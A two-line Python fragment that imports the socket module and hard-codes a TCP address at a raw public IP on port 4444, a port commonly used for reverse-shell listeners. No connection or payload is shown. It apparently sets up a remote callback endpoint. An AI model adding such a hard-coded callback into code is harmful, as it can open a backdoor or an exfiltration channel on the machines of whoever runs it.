import socket
URL = "tcp://45.9.148.1:4444"
